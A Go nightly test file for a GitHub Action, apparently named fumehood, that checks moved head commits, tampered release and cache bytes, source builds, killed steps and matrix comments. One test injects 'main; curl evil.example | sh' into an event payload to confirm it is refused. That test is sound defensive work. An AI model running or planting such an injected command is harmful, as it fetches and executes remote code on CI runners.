// SPDX-License-Identifier: Apache-2.0

//go:build nightly

package main

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"
	"testing"

	"github.com/fumehood/fumehood/cmd/fumehood/internal/jobtest"
	"github.com/fumehood/fumehood/internal/github/githubtest"
)

// (d) The head moves between run and report.
func TestNightlyActHeadMoved(t *testing.T) {
	s := newStage(t, true, nil, nil)
	s.edit("fumehood.yml", "run: go vet ./...", "run: "+show, "run: go test ./...", "run: cat README.md")
	s.play("fumehood.yml", "pull_request", s.EventPayload("pull_request.opened.fork", nil))
	moved := githubtest.CommitID("pushed meanwhile")
	s.GH.AddCommit(moved)
	s.GH.MoveHead(jobtest.PrNumber, moved)
	s.tellAll(t, "success", "newer commit", s.Head[:12], moved[:12])
}

// (e) THREATS 27, 31: wrong bytes from the release server and in the payload are refused. In
// the tool cache they are replaced.
func TestNightlyActTampered(t *testing.T) {
	s := newStage(t, false, nil, nil)
	s.edit("one-job.yml", "run: npm test", "run: "+show)
	opened := s.EventPayload("pull_request.opened", nil)
	play := func() actRun { return s.play("one-job.yml", "pull_request", opened) }
	good := s.releases.Config.Handler
	s.releases.Config.Handler = flipping(good)
	s.refuses("the server", opened, "install.digest")
	s.releases.Config.Handler = good

	payload := bytes.Replace(s.EventPayload("pull_request.opened", nil), []byte(s.Head), []byte("main; curl evil.example | sh"), 1)
	s.refuses("the payload", payload, "event.malformed")

	cached := filepath.Join(s.tools, "fumehood", releaseVersion, "amd64", "fumehood_"+releaseVersion+"_linux_amd64.tar.gz")
	data, err := os.ReadFile(filepath.Join(shared, "release", filepath.Base(cached)))
	s.must(err)
	s.must(os.MkdirAll(filepath.Dir(cached), 0o755))
	data[len(data)/2] ^= 1
	s.must(os.WriteFile(cached, data, 0o644))
	before := len(s.downloads.paths)
	r := play()
	if r.code != 0 || len(s.downloads.paths) != before+1 {
		t.Errorf("exit %d, %d downloads, want one\n%s", r.code, len(s.downloads.paths)-before, r.log)
	}
	jobtest.CheckContains(t, "the cache", r.log, "install.cache", "in the tool cache has SHA-256")
	jobtest.CheckContains(t, "comment", s.BotComment().Body, show, "1 succeeded")
}

// At a commit that is built from source, a job uses the build that a step before restored,
// here a copy in place of actions/cache. The variable is set for fumehood's step only.
func TestNightlyActRestoredBuild(t *testing.T) {
	s := newStage(t, false, nil, nil)
	root, err := filepath.Abs("../..")
	s.must(err)
	for _, name := range []string{"go.mod", "go.sum", "LICENSE", "cmd", "internal", "pkg", "policies", "testdata", "tools"} {
		out, err := exec.CommandContext(t.Context(), "cp", "-r", filepath.Join(root, name), s.action).CombinedOutput()
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
	}
	s.must(os.WriteFile(filepath.Join(s.action, "release.env"), []byte("VERSION=source\n"), 0o644))
	build := exec.CommandContext(t.Context(), "go", "run", "./tools/release", "--arch", "amd64", "--out", s.path("built"))
	build.Dir = root
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	s.edit("one-job.yml", "run: npm test", "run: "+show, "      - uses: fumehood/fumehood@v1", `      - run: cp -r `+s.path("built")+` "$RUNNER_TEMP/fumehood-source"
      - uses: fumehood/fumehood@v1
        env:
          FUMEHOOD_SOURCE_CACHE: ${{ runner.temp }}/fumehood-source
     `)
	r := s.play("one-job.yml", "pull_request", s.EventPayload("pull_request.opened", nil))
	if r.code != 0 || len(s.downloads.paths) != 0 {
		t.Errorf("exit %d, downloads %q\n%s", r.code, s.downloads.paths, r.log)
	}
	jobtest.CheckContains(t, "log", r.log, "fumehood source for linux/amd64, SHA-256 ", "/fumehood-source\n")
	jobtest.CheckContains(t, "comment", s.BotComment().Body, show, "1 succeeded")
}

// (f) The runner kills the step with SIGKILL. The root process notices, and leaves
// nothing behind.
func TestNightlyActKilled(t *testing.T) {
	s := newStage(t, false, nil, nil)
	s.edit("one-job.yml", "run: npm test", "run: sleep 300")
	cmd := s.command("one-job.yml", "pull_request", s.EventPayload("pull_request.opened", nil))
	s.must(cmd.Start())
	pid := waitForSleeper(t, s.installed)
	s.must(syscall.Kill(pid, syscall.SIGKILL))
	_ = cmd.Wait()
	jobtest.CheckNothingRuns(t, s.installed)
}

// (g) A matrix of three plans into one comment with three sections.
func TestNightlyActMatrix(t *testing.T) {
	s := newStage(t, false, nil, nil)
	s.edit("matrix.yml", "npx --no-install eslint .", "cat README.md", "npm test", show, "npx --no-install tsc --noEmit", "grep -qx 'echo hello' greet.sh")
	r := s.play("matrix.yml", "pull_request", s.EventPayload("pull_request.opened", nil))
	jobtest.CheckContains(t, "comment after "+r.log, s.BotComment().Body, "lint", "unit", "types", "cat README.md", show, "2 succeeded", "1 failed")
}
